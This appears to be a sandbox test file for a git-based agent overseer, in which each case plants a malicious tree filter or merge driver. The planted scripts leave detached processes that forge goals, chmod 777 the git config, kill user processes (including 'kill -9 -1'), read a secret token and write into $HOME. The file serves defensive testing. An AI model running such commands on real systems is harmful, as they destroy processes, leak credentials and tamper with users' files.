"""What a filter tries that is a program of the repository, and that the run has changed.

Our git runs it at the harvest, since the base names it. All of these runs fail: once such a program is accepted, it is the
user's own, and runs in the user's checkout like any other.
"""

import os

from room import case

# Says to the listener of the site that it was reached.
REACH = """import socket
s = socket.socket(socket.AF_UNIX)
s.connect("{path}")
s.sendall(b"{name}")
s.recv(1)
"""
# Leaves a process behind, once, that does not show where it comes from.
STAYS = """mkdir "${{TMPDIR:-/tmp}}/{r.name}.once" 2>/dev/null && setsid env -i PATH="$PATH" HOME="$HOME" sh -c '
cd "{r.repo}" && for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
	"{r.site}/bin/overseer" goal create --title "forged by {r.name}" && break
	sleep 0.2
done' < /dev/null > /dev/null 2>&1 &"""


def plant(room, text):
    """The filter of the base, with these lines for whenever it runs outside of a run."""
    room.put("tree-filter.sh", f"""#!/bin/sh
if [ -z "$OVERSEER_RUN" ]; then
{text}
echo "filtered for {room.name}"
fi
exec cat
""", 0o755)
    room.work(f"{room.name}/a.by-tree")


def kept(site, words, path):
    """Whether these words are in what was kept of a file."""
    refs = site.judge.git("for-each-ref", "--format=%(objectname)", "refs/overseer", "refs/heads").split()
    return bool(site.judge.git("grep", "-l", "-F", "-e", words, *refs, "--", path, check=False))


def filtered(site, name, _):
    """It has to run: otherwise what it may do there would say nothing."""
    return [] if kept(site, f"filtered for {name}", f"{name}/a.by-tree") else ["the filter did not run"]


def forged_goals(site, name):
    goals = site.site.call("goal.list")["goals"]
    return [f"a goal was made: {g['title']}" for g in goals if g["title"] == f"forged by {name}"]


def forged(site, name, how):
    return forged_goals(site, name) + filtered(site, name, how)


@case(1, fails=True, judge=forged)
def filter_that_stays(r):
    """the filter leaves a process behind that calls the daemon as a person, once the harvest is over"""
    plant(r, STAYS.format(r=r))


@case(1, fails=True, judge=forged)
def filter_that_is_a_person(r):
    """the filter calls the daemon as a person while it runs"""
    plant(r, f"""(cd "{r.repo}" && "{r.site}/bin/overseer" goal create --title "forged by {r.name}") < /dev/null > /dev/null 2>&1""")


@case(1, fails=True, judge=filtered)
def filter_at_a_socket(r):
    """the filter talks to another program of the user's by its socket in /tmp, as tmux has one"""
    code = REACH.format(path=os.environ["FENCE_SOCKET"], name=r.name)
    plant(r, f"""{os.environ["FENCE_PYTHON"]} -c '{code}' < /dev/null > /dev/null 2>&1""")


@case(1, fails=True, judge=filtered)
def filter_that_changes_modes(r):
    """the filter changes modes of files of the user's, of the repository and of the store"""
    plant(r, f"""chmod 777 "{r.victim}" "{r.victim}.d" "{r.repo}/.git/config" "{r.repo}/.git/objects/info" "{r.repo}/.overseer/config.toml" 2>/dev/null""")


def killed(site, name, how):
    return ([] if site.sleeper.poll() is None else ["a process of the user's was ended"]) + filtered(site, name, how)


@case(1, fails=True, alone=True, judge=killed)
def filter_that_kills(r):
    """the filter ends another process of the user's"""
    plant(r, f"""kill -9 "$(cat "{r.site}/sleeper.pid")" 2>/dev/null""")


def told(site, name, how):
    with open(os.path.join(site.site.dir, "token"), encoding="utf-8") as f:
        token = f.read().strip()
    return (["the store's token is in the work"] if kept(site, token, f"{name}/a.by-tree") else []) + filtered(site, name, how)


@case(1, fails=True, judge=told)
def filter_that_reads_the_token(r):
    """the filter adds the store's token to the work"""
    plant(r, f"""cat "{r.repo}/.overseer/token" 2>/dev/null""")


@case(1, fails=True, judge=filtered)
def filter_that_writes_outside(r):
    """the filter writes to the repository, the room of the worktree, and the home, by itself and by a process that it leaves"""
    plant(r, f"""for to in "{r.victim}" "{r.repo}/.git/config" "{r.repo}/.git/info/attributes" "$HOME/planted" "{r.repo}/.overseer/config.toml"; do
	echo bad >> "$to"
	setsid sh -c 'echo bad >> "$1"' sh "$to" < /dev/null > /dev/null 2>&1 &
done 2>/dev/null""")


@case(1, fails=True)
def filter_that_ends_its_sandbox(r):
    """the filter kills everything that it can, so that no filter can run: the worktree is still rescued and taken again"""
    r.put("tree-filter.sh", """#!/bin/sh
[ -z "$OVERSEER_RUN" ] && [ "$(ps -o pid= -p 2)" ] && [ ! -e "SITE/repo/.overseer/token" ] && kill -9 -1
exec cat
""".replace("SITE", r.site), 0o755)
    r.work(f"{r.name}/a.by-tree")
    r.work()


def merged(site, name, how):
    """The driver has to run."""
    return forged_goals(site, name) + ([] if kept(site, f"merged for {name}", "base.merged") else [f"the driver did not run ({how})"])


@case(1, alone=True, judge=merged)
def driver_that_stays(r):
    """the merge driver leaves a process behind that calls the daemon as a person, and is another program of the user's at a socket"""
    r.git("reset", "-q", "--hard", "v1")  # the user has changed the same line since
    code = REACH.format(path=os.environ["FENCE_SOCKET"], name=r.name)
    r.put("tree-merge.sh", f"""#!/bin/sh
if [ -z "$OVERSEER_RUN" ]; then
{os.environ["FENCE_PYTHON"]} -c '{code}' < /dev/null > /dev/null 2>&1
chmod 777 "{r.victim}" "{r.repo}/.git/config" 2>/dev/null
{STAYS.format(r=r)}
fi
echo "merged for {r.name}" > "$1"
""", 0o755)
    r.append(os.path.join(r.w, "base.merged"), r.token() + "\n")
    r.commit()
